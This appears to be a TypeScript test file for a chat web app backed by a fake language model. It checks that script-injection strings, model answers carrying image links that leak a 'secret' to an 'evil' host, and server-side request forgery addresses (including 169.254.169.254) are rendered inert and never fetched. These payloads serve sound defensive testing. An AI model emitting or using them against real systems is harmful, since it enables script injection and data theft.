import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { someOf } from "../support/extent.ts";
import { type FakeModel, startFakeModel } from "../support/fakes/fake-model.ts";
import { dataOf } from "./built-routes.ts";
import { type Victim, victimOf } from "./forms.ts";
import { openSite, type Site } from "./site.ts";

let model: FakeModel;
let site: Site;
let victim: Victim;
/** A host of somebody else's. Whoever asks it for anything is heard. */
const heard: string[] = [];
const host = createServer((request, response) => {
	heard.push(`${request.method} ${request.url}`);
	response.writeHead(302, { Location: "/again" }).end();
});
let evil: string;
beforeAll(async () => {
	await new Promise<void>((resolve) => host.listen(0, "127.0.0.1", resolve));
	evil = `http://127.0.0.1:${(host.address() as AddressInfo).port}`;
	model = await startFakeModel();
	site = await openSite({ MODEL_BASE_URL: model.url, MODELS: "test-model" });
	victim = await victimOf(site);
});
afterAll(async () => {
	await site?.stop();
	await model?.stop();
	host.close();
});

const BREAKOUTS = [
	"</script><script>alert(1)</script>",
	"<!--<script>",
	"]]>",
	"\u2028alert(1)\u2029",
	"</title></style>",
];

/** Waits until an answer is whole. */
const ended = (answerId: string) =>
	expect
		.poll(() => site.sql("select state from answers where id = ?", answerId))
		.toEqual([{ state: "done" }]);

test("check 46: what would end a script or begin a comment is inert, on the page and in its data", async () => {
	const { person } = victim;
	const text = `Вопрос ${BREAKOUTS.join(" ")}`;
	model.script(async (reply) => {
		await reply.stream(`Ответ ${BREAKOUTS.join(" ")}`);
		reply.finish();
	});
	const { conversationId, answerId } = await person.ask(text);
	await ended(answerId);
	const page = await person.get(`/chat?c=${conversationId}`);
	expect(page.status).toBe(200);
	expect(page.text).toContain("alert(1)");
	// Every script of the page is one of ours: it bears the nonce of this answer's policy, or loads from this site.
	const nonce = /'nonce-([^']+)'/.exec(String(page.headers["content-security-policy"]))?.[1] ?? "-";
	for (const [tag] of page.text.matchAll(/<script[^>]*>/gi)) expect(tag).toContain(`nonce="${nonce}"`);
	for (const [, script] of page.text.matchAll(/<script[^>]*>(.*?)<\/script>/gis)) {
		expect(script).not.toMatch(/^alert|[\u2028\u2029]|<!--/);
	}
	expect(page.text).not.toContain("<!--<script>");
	const data = await person.get(`${dataOf("/chat")}?c=${conversationId}`);
	expect(String(data.headers["content-type"])).not.toMatch(/html/);
	expect(String(data.headers["x-content-type-options"])).toBe("nosniff");
});

test("check 45: a picture in an answer is never fetched, by the server or by the policy of the page", async () => {
	const { person } = victim;
	model.script(async (reply) => {
		await reply.stream(
			`![тайна](${evil}/?q=secret) ![](//127.0.0.1/x) <img src="${evil}/raw"> [сюда](${evil}/link) ${evil}/auto`,
		);
		reply.finish();
	});
	const { conversationId, answerId } = await person.ask("Покажи картинку");
	await ended(answerId);
	const page = await person.get(`/chat?c=${conversationId}`);
	expect(page.text).not.toMatch(/<img[^>]+src="?(http|\/\/)/i);
	expect(String(page.headers["content-security-policy"])).toMatch(/img-src 'self'( data:)?(;|$)/);
	expect(heard).toEqual([]);
});

describe("check 47: no address that a visitor sends is ever requested", () => {
	test("in any field of any form, in any query", async () => {
		const { person, forms } = victim;
		const addresses = [
			evil,
			`${evil.replace("http://127.0.0.1", "http://2130706433")}/`,
			"http://169.254.169.254/",
			"http://[::1]/",
		];
		for (const { path, fields } of forms) {
			for (const name of Object.keys(fields)) {
				if (name === "intent") continue;
				await person.thief().post(path, { ...fields, [name]: evil });
			}
		}
		const paths = ["/chat", "/login", "/suggest/token", "/payment", "/icons/mdi.json", "/FAQ", "/theme"];
		const names = "icons url redirectTo returnTo q c plan ask prefix state".split(" ");
		const targets = paths.flatMap((path) =>
			addresses.flatMap((address) => names.map((name) => `${path}?${name}=${encodeURIComponent(address)}`)),
		);
		for (const target of someOf(targets, 3)) await person.get(target);
		expect(heard).toEqual([]);
	});
});
